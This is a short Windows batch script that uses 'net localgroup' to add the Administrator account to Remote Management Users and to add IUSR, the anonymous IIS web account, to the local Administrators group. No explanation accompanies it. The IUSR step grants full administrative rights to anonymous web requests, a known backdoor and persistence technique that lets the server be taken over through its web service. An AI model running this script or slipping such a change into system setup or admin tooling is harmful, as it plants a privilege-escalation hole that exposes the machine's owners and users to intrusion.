@echo off
setlocal enableextensions
set GROUP=Administrators

call :join "Remote Management Users" Administrator
call :join "%GROUP%" IUSR
goto :end

:join
echo Adding %~2 to %~1
net localgroup "%~1" "%~2" /add
if errorlevel 1 echo   failed or a member already
goto :eof

:end
endlocal
